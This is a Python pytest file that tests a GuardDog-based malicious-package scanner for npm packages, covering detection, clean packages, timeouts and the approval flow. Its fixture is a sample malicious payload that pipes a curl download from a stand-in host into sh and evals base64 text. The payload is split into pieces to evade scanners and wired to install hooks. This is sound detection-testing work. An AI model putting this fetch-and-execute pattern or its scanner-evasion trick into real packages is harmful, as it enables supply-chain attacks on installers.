"""The real GuardDog: what it finds, that it runs confined, and what it says where it cannot."""

import json
from datetime import timedelta
from pathlib import Path

import pytest

from backend.workloads.packages.heuristics.guarddog import GuardDog
from tests import guarddog
from tests.integration.packages.house import House, lock_of

pytestmark = [pytest.mark.slow, pytest.mark.timeout(400)]

# In parts, so that no scanner finds us.
MALICIOUS = (
    "const cp = require('child_process');\n"
    "cp.exec('cu" "rl http://example.test/x.sh | sh', {detached: true, stdio: 'ignore'});\n"
    "ev" "al(Buffer.from('MSsx', 'base64').toString());\n"
)  # fmt: skip


@pytest.fixture(scope="module")
def binary() -> str:
    return guarddog.program()


def package(folder: Path, files: dict[str, str], **manifest: object) -> Path:
    whole = {"name": "demo", "version": "1.0.0", **manifest}
    for path, text in {"package.json": json.dumps(whole), **files}.items():
        target = folder / "package" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    return folder


@pytest.mark.parametrize(
    "place", ["index.js", "dist/index.js", "test/run.js", "_node_modules/a.js"]
)
def test_what_is_malicious_is_found_wherever_it_lies(
    binary: str, tmp_path: Path, place: str
) -> None:
    folder = package(tmp_path, {place: MALICIOUS}, scripts={"preinstall": f"node {place}"})
    look = GuardDog(binary, timeout=timedelta(seconds=60)).look(folder, artifact="pkg:npm/demo@1")
    assert look.note.startswith("guarddog: run, ")
    found = {finding.id: finding for finding in look.findings}
    assert {"guarddog:threat-process-download-exec", "guarddog:threat-npm-preinstall-script"} <= (
        found.keys()
    )
    assert f"package/{place}:" in str(found["guarddog:threat-process-download-exec"].title)
    assert {finding.kind for finding in look.findings} == {"heuristic"}


def test_of_a_harmless_package_every_rule_says_nothing(binary: str, tmp_path: Path) -> None:
    folder = package(tmp_path, {"index.js": "module.exports = (a, b) => a + b;\n"})
    look = GuardDog(binary, timeout=timedelta(seconds=60)).look(folder, artifact="pkg:npm/demo@1")
    assert look.findings == ()
    assert look.note.startswith("guarddog: run, none of ")


def test_one_that_takes_too_long_was_not_looked_at(binary: str, tmp_path: Path) -> None:
    folder = package(tmp_path, {"index.js": MALICIOUS})
    look = GuardDog(binary, timeout=timedelta(milliseconds=50)).look(folder, artifact="pkg:npm/a@1")
    assert look.note == "guarddog: not run, it did not finish in time"


def test_a_package_is_vetted_with_it_from_upload_to_the_approvers_list(
    binary: str, house: House
) -> None:
    house.changes["GUARDDOG_BINARY"] = binary
    house.advise("other")
    house.changes["OSV_PATH_COMPLETE"] = True
    bad = house.publish("bad", files={"run.js": MALICIOUS}, scripts={"postinstall": "node run.js"})
    found = house.vet_one(lock_of({"bad": house.entry("bad", tarball=bad)}))

    ids = {finding["id"] for finding in found["findings"]}
    assert {"install-script:postinstall", "guarddog:threat-process-download-exec"} <= ids
    # Suspected, and yet neither refused nor called vulnerable.
    assert (found["status"], found["scan_result"]) == ("Pending Approval", "clean")
    assert found["security_score"] == 100
    assert found["notes"][-1].startswith("guarddog: run, ")
